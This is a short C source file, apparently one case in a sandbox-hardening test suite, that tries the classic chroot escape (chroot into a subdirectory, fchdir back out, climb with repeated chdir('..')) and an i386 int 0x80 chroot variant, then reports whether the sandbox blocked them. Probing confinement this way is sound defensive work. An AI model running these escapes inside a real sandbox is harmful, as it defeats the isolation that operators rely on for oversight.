/* class: filesystem
 * what: the classic way out of a chroot: chroot into a subdirectory while standing outside of it, then climb
 */
#include "attack.h"

static char dir[256];

static int breakout(void)
{
    int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (chroot(dir) < 0 && chroot("/") < 0)
        return errno;
    (void)fchdir(fd);
    for (int i = 0; i < 64; i++)
        (void)!chdir("..");
    return chroot(".") < 0 ? errno : 0;
}

static int breakout32(void)
{
    char *p = low_page();
    if (!p)
        return ENOMEM;
    strcpy(p, "/");
    return int80(61, (long)p, 0, 0, 0, 0) < 0 ? errno : 0;
}

int main(void)
{
    const char *scratch = scratch_dir();
    snprintf(dir, sizeof dir, "%s", scratch ? scratch_path(scratch, "jail") : "/");
    (void)mkdir(dir, 0700);
    int err = try_child("chroot", breakout);
    (void)rmdir(dir);
    if (err == 0)
        escaped("chroot, and out of it again");
    refused("chroot", err);
    attempt("i386 chroot", breakout32);
    verdict();
}
